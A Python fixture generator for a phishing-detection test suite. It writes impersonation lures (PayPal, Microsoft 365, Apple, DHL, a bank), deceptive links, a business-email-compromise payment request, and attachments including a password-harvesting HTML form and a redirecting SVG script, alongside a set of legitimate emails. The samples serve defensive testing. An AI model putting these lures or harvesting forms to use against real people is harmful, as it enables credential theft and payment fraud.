"""Writes the phishing-signal fixtures (``phish/``) and the false-positive guard set
(``legit/``) of tests/data/signals; run to regenerate. All written for the tests: the names
of real services appear because impersonating them (or being them) is the point.

Each ``phish/NAME.eml`` has ``phish/NAME.json``: the warning codes (with severity) the
message must get. Every ``legit/NAME.eml`` must get no adversarial warning at all;
``legit/NAME.json`` may list informational warnings it must get (the Reply-To rule).
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
PHISH: dict[str, tuple[bytes, dict[str, Any]]] = {}
LEGIT: dict[str, tuple[bytes, dict[str, Any]]] = {}


def msg(
    sender: str,
    subject: str,
    body: str,
    *,
    html: bool = False,
    extra: str = "",
    to: str = "Dana Reader <dana@example-corp.com>",
) -> bytes:
    ctype = "text/html" if html else "text/plain"
    return (
        f"From: {sender}\r\nTo: {to}\r\nSubject: {subject}\r\n"
        "Date: Tue, 01 Dec 2026 08:30:00 +0000\r\nMessage-ID: <fixture@mail.example-corp.com>\r\n"
        f"MIME-Version: 1.0\r\n{extra}Content-Type: {ctype}; charset=utf-8\r\n"
        "Content-Transfer-Encoding: 8bit\r\n\r\n" + body.replace("\n", "\r\n") + "\r\n"
    ).encode()


def with_attachment(
    sender: str, subject: str, text: str, name: str, ctype: str, data: bytes
) -> bytes:
    payload = base64.encodebytes(data).decode().replace("\n", "\r\n")
    return (
        f"From: {sender}\r\nTo: Dana Reader <dana@example-corp.com>\r\nSubject: {subject}\r\n"
        "Date: Tue, 01 Dec 2026 08:30:00 +0000\r\nMessage-ID: <att@mail.example-corp.com>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b1"\r\n\r\n'
        "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        + text.replace("\n", "\r\n")
        + f'\r\n--b1\r\nContent-Type: {ctype}; name="{name}"\r\n'
        f'Content-Disposition: attachment; filename="{name}"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n" + payload + "--b1--\r\n"
    ).encode()


def phish(name: str, raw: bytes, *codes: str) -> None:
    expect = [{"code": c.split(":")[0], "severity": c.split(":")[1] if ":" in c else "adversarial"}
              for c in codes]  # fmt: skip
    PHISH[name] = (raw, {"warnings": expect})


def legit(name: str, raw: bytes, *codes: str) -> None:
    expect = [{"code": c.split(":")[0], "severity": c.split(":")[1]} for c in codes]
    LEGIT[name] = (raw, {"warnings": expect})


# --- phishing: one or more new signals each ------------------------------------------------
phish(
    "brand_display_name_paypal",
    msg('"PayPal Service" <service@pp-resolution-center.com>',
        "Your account access has been limited",
        "<html><body><h2>Your account access has been limited</h2>"
        "<p>We noticed unusual activity. Please confirm your account information within "
        "24 hours or your account will be suspended.</p>"
        '<p><a href="https://paypal.account-resolve.net/signin?case=PP-4471">Log in to '
        "PayPal</a></p><p>PayPal</p></body></html>", html=True),
    "brand_impersonation", "credential_harvest_link", "phishing_urgency_language:informational",
)  # fmt: skip
phish(
    "brand_subject_microsoft365",
    msg('"IT Helpdesk" <helpdesk@corp-mailer.info>',
        "Microsoft 365: your mailbox storage is full",
        "Dear user,\n\nYour mailbox has reached its storage limit and incoming messages are "
        "on hold.\nSign in to upgrade your storage for free:\n"
        "https://storage-upgrade-portal.web.app/o365/login\n\nIT Helpdesk"),
    "brand_impersonation", "credential_harvest_link",
)  # fmt: skip
phish(
    "brand_heading_docusign",
    msg('"Accounts Payable" <ap@northwind-supplies.co>', "Please review: Invoice_88213",
        "<html><body><h1>DocuSign: your document is ready to sign</h1>"
        "<p>Accounts Payable sent you a document to review and sign.</p>"
        '<p><a href="https://docs-view-secure.pages.dev/envelope?id=88213">REVIEW DOCUMENT</a>'
        "</p><p>Verify your email address to view the document.</p></body></html>", html=True),
    "brand_impersonation", "credential_harvest_link",
)  # fmt: skip
phish(
    "link_ip_literal_parcel",
    msg('"Parcel Notification" <notice@parcel-track-info.com>',
        "Delivery attempt failed: action required",
        "Hello,\n\nWe could not deliver your parcel today. Please confirm your delivery "
        "details and pay the 1.99 EUR redelivery fee:\nhttp://185.234.72.19/track/confirm.php"
        "?id=DE8841\n\nCustomer service"),
    "link_ip_literal", "credential_harvest_link",
)  # fmt: skip
phish(
    "link_ip_literal_decimal",
    msg('"Mail Administrator" <admin@mailbox-quota.net>', "Password expires today",
        '<p>Your password expires today. <a href="http://3105984530/owa/">Keep my password</a>'
        "</p>", html=True),
    "link_ip_literal", "credential_harvest_link",
)  # fmt: skip
phish(
    "link_userinfo_bank",
    msg('"Online Banking" <alerts@secure-banking-alerts.com>', "Unusual sign-in activity",
        "<p>We blocked an unusual sign-in attempt. Sign in to review the activity:</p>"
        '<p><a href="https://www.chase.com@chase-verify-login.ru/auth/">https://www.chase.com/'
        "verify</a></p>", html=True),
    "link_userinfo_trick", "credential_harvest_link", "html_link_text_mismatch",
)  # fmt: skip
phish(
    "link_punycode_apple",
    msg('"Apple" <no_reply@id-apple-support.com>', "Your Apple ID has been locked",
        "<p>Your Apple ID has been locked for security reasons.</p>"
        '<p><a href="https://xn--pple-43d.com/verify">Unlock your account</a></p>', html=True),
    "link_punycode_lookalike", "brand_impersonation", "credential_harvest_link",
)  # fmt: skip
phish(
    "link_shortener_verify",
    msg('"Netflix" <info@account-netflix-billing.com>', "Your payment was declined",
        "Hi,\n\nYour payment was declined. Update your payment details to keep watching:\n"
        "https://bit.ly/3xNfBill\n\nThe Netflix team"),
    "link_shortener:informational", "brand_impersonation", "credential_harvest_link",
)  # fmt: skip
phish(
    "attachment_html_login_page",
    with_attachment('"Finance Dept" <finance@acme-invoices.biz>', "Remittance advice 2026-11",
        "Please find the remittance advice attached. Open the file and sign in with your email "
        "to view it.", "Remittance_Advice.html", "text/html",
        b"<html><body><h3>Sign in to view the document</h3><form action='https://collect."
        b"acme-invoices.biz/p.php' method='post'><input name='email'><input type='password' "
        b"name='pw'><button>View</button></form></body></html>"),
    "attachment_html_page",
)  # fmt: skip
phish(
    "attachment_svg_script",
    with_attachment('"Voicemail" <voicemail@pbx-alerts.net>', "New voicemail (0:42)",
        "You have a new voicemail. Play the attached message.", "voicemail_0042.svg",
        "image/svg+xml",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>window.location='https://vm-play."
        b"example-phish.com/'+atob('ZGFuYQ==')</script></svg>"),
    "attachment_html_page",
)  # fmt: skip
phish(
    "attachment_shtml_redirect",
    with_attachment('"Scanner" <scanner@copier-office.net>', "Scanned document",
        "Scanned document attached.", "Scan_0112.shtml", "application/octet-stream",
        b"<html><head><meta http-equiv='refresh' content='0;url=https://scan-view.example-"
        b"phish.com/'></head></html>"),
    "attachment_html_page",
)  # fmt: skip
phish(
    "bec_payment_change",
    msg('"Robert Hale" <robert.hale@northwind-traders.com>', "Urgent: supplier payment",
        "Hi Dana,\n\nPlease process the supplier payment today. Our bank has changed; use the "
        "new bank details in the attached letter for the wire transfer. I am in meetings all "
        "day, reply by email only.\n\nRobert",
        extra="Reply-To: Robert Hale <robert.hale.office@gmail.com>\r\n"),
    "reply_to_mismatch", "phishing_urgency_language:informational",
)  # fmt: skip
phish(
    "brand_display_name_dhl_multilingual",
    msg('"DHL Express" <service@paket-zustellung-info.de>', "Ihr Paket wartet",
        "Guten Tag,\n\nIhr Paket konnte nicht zugestellt werden. Bitte bestätigen Sie Ihre "
        "Identität und bezahlen Sie die Zollgebühr:\nhttps://dhl-zustellung.paket-info.top/de"
        "\n\nDHL"),
    "brand_impersonation", "credential_harvest_link",
)  # fmt: skip

# --- legitimate: the false-positive guard set --------------------------------------------
legit(
    "newsletter_mailchimp_tracked_links",
    msg('"The Bakery Weekly" <hello@bakeryweekly.com>', "Five breads to bake this December",
        "<html><body><h1>Five breads to bake this December</h1><p>Our favourite winter loaves."
        '</p><p><a href="https://bakeryweekly.us5.list-manage.com/track/click?u=1&id=2">Read '
        "the recipes</a></p><p>Sign in to your account to change your preferences: "
        '<a href="https://bakeryweekly.us5.list-manage.com/profile?u=1">update profile</a>'
        '</p><p><a href="https://bakeryweekly.us5.list-manage.com/unsubscribe?u=1">Unsubscribe'
        "</a></p></body></html>", html=True,
        extra="Reply-To: The Bakery Weekly <editor@bakeryweekly.co.uk>\r\n"
              "List-Unsubscribe: <https://bakeryweekly.us5.list-manage.com/unsubscribe>\r\n"),
    "reply_to_mismatch:informational",
)  # fmt: skip
legit(
    "receipt_amazon_com",
    msg('"Amazon.com" <auto-confirm@amazon.com>', "Your Amazon.com order #112-4417720",
        "<html><body><h2>Thanks for your order, Dana!</h2><p>Your order will arrive Friday."
        '</p><p><a href="https://www.amazon.com/gp/css/order-details?orderID=112-4417720">View '
        "or manage your order</a></p><p>Sign in to your account to track the package.</p>"
        "</body></html>", html=True),
)  # fmt: skip
legit(
    "receipt_amazon_de",
    msg('"Amazon.de" <bestellbestaetigung@amazon.de>', "Ihre Amazon.de Bestellung",
        "Vielen Dank für Ihre Bestellung.\nMelden Sie sich an, um Ihre Bestellung zu verfolgen:"
        "\nhttps://www.amazon.de/gp/your-account/order-history\n"),
)  # fmt: skip
legit(
    "receipt_paypal_de",
    msg('"PayPal" <service@paypal.de>', "Ihre Zahlung an Bakery Weekly",
        "Sie haben 12,00 EUR an Bakery Weekly gesendet.\nDetails: https://www.paypal.com/"
        "myaccount/transactions\nLog in to PayPal to see the receipt."),
)  # fmt: skip
legit(
    "password_reset_github",
    msg('"GitHub" <noreply@github.com>', "[GitHub] Please reset your password",
        "We heard that you lost your GitHub password. Sorry about that!\n\nBut don't worry! "
        "You can use the following link to reset your password:\n\n"
        "https://github.com/password_reset/6f1c0e7b1d\n\nIf you don't use this link within 3 "
        "hours, it will expire.\n\nThanks,\nThe GitHub Team"),
)  # fmt: skip
legit(
    "password_reset_slack_sendgrid",
    msg('"Slack" <feedback@slack.com>', "Slack password reset",
        "<html><body><h1>Password reset</h1><p>We received a request to reset the password for"
        ' your account.</p><p><a href="https://u1234.ct.sendgrid.net/ls/click?upn=abc">Reset '
        "your password</a></p><p>If you did not ask for this, ignore this email.</p>"
        "</body></html>", html=True),
)  # fmt: skip
legit(
    "security_code_microsoft",
    msg('"Microsoft account team" <account-security-noreply@accountprotection.microsoft.com>',
        "Microsoft account security code",
        "Please use the following security code for the Microsoft account da**@example-corp"
        ".com.\n\nSecurity code: 448201\n\nIf you don't recognize the account, you can click "
        "https://account.live.com/dp?id=2 to remove your email address from that account."),
)  # fmt: skip
legit(
    "bank_statement_wellsfargo",
    msg('"Wells Fargo Online" <alerts@notify.wellsfargo.com>', "Your statement is ready",
        "<p>Your December statement is ready.</p><p><a href='https://connect.secure.wellsfargo"
        ".com/auth/login/present'>Sign on to view your statement</a></p>", html=True),
)  # fmt: skip
legit(
    "support_ticket_zendesk",
    msg('"Globex Support" <support@globex.zendesk.com>', "[Globex] Re: Printer offline (#4412)",
        "Hi Dana,\n\nThanks for the details. Log in to view the ticket and reply:\n"
        "https://globex.zendesk.com/hc/requests/4412\n\nMartin, Globex Support",
        extra="Reply-To: Globex Support <support+id4412@globex.zendesk.com>\r\n"),
)  # fmt: skip
legit(
    "support_ticket_freshdesk_reply_to",
    msg('"Initech Help" <help@initech.com>', "Ticket #42 updated",
        "Your ticket was updated. Sign in to view it: https://initech.freshdesk.com/support/"
        "tickets/42",
        extra="Reply-To: Initech Help <help@initech.freshdesk.com>\r\n"),
    "reply_to_mismatch:informational",
)  # fmt: skip
legit(
    "google_reply_to_gmail",
    msg('"Google Workspace" <workspace-noreply@google.com>', "Your trial ends in 3 days",
        "Your Google Workspace trial ends in 3 days. Add payment details in the Admin console: "
        "https://admin.google.com/billing",
        extra="Reply-To: workspace-team@gmail.com\r\n"),
    "reply_to_mismatch:informational",
)  # fmt: skip
legit(
    "list_mail_python_dev",
    msg("Ann Example <ann.example@gmail.com>", "Re: [Python-Dev] PEP 9999 discussion",
        "> Could we log in to PyPI and verify the new release?\n\nYes: sign in at "
        "https://pypi.org/account/login/ and verify the files, then check "
        "https://discuss.python.org/t/pep-9999/1234 for the thread.\n\nAnn",
        extra="List-Id: Python core developers <python-dev.python.org>\r\n"
              "List-Post: <mailto:python-dev@python.org>\r\n"
              "Reply-To: python-dev@python.org\r\nSender: python-dev-bounces@python.org\r\n"),
)  # fmt: skip
legit(
    "news_about_apple",
    msg('"The Verge" <newsletter@theverge.com>', "Apple announces security update for iPhone",
        "<h1>Apple ships iOS 20.1.2</h1><p>Apple released a security update today. Read more: "
        '<a href="https://www.theverge.com/apple/ios-20-1-2">the full story</a></p>', html=True),
)  # fmt: skip
legit(
    "colleague_shared_link_google_docs",
    msg("Priya Natarajan <priya@example-corp.com>", "Budget draft",
        "Hi Dana, the budget draft is in the shared folder: https://docs.google.com/"
        "spreadsheets/d/1AbC/edit - could you verify the travel numbers before Friday?\n\nPriya"),
)  # fmt: skip
legit(
    "invoice_pdf_stripe",
    msg('"Stripe" <invoice+statements@stripe.com>', "Your receipt from Initech #1043-2210",
        "Receipt from Initech\nAmount paid: $49.00\nView the invoice: https://invoice.stripe.com/"
        "i/acct_1/test_123\nQuestions? Contact Initech at billing@initech.com"),
)  # fmt: skip
legit(
    "internal_jenkins_private_ip",
    msg("Jenkins <jenkins@example-corp.com>", "Build #512 failed",
        "Build #512 failed. Log in to see the console output: http://10.20.0.15:8080/job/api/512"
        "/console"),
    "link_ip_literal:informational",
)  # fmt: skip
legit(
    "newsletter_with_shortener",
    msg('"Local Runners Club" <club@localrunners.org>', "Saturday run: new meeting point",
        "Hi runners,\n\nThis Saturday we meet at the north gate. Map: https://bit.ly/runmap24"
        "\n\nSee you there!"),
    "link_shortener:informational",
)  # fmt: skip
legit(
    "saved_web_page_attachment",
    with_attachment("Priya Natarajan <priya@example-corp.com>", "Page I mentioned",
        "Attached is the page I saved yesterday.", "conference-agenda.html", "text/html",
        b"<html><body><h1>Agenda</h1><p>09:00 Welcome</p></body></html>"),
    "attachment_html_page:informational",
)  # fmt: skip


def main() -> None:
    for folder, cases in (("phish", PHISH), ("legit", LEGIT)):
        target = HERE / folder
        target.mkdir(exist_ok=True)
        for old in target.glob("*"):
            old.unlink()
        for name, (raw, expect) in cases.items():
            (target / f"{name}.eml").write_bytes(raw)
            (target / f"{name}.json").write_text(json.dumps(expect, indent=1) + "\n")


if __name__ == "__main__":
    main()
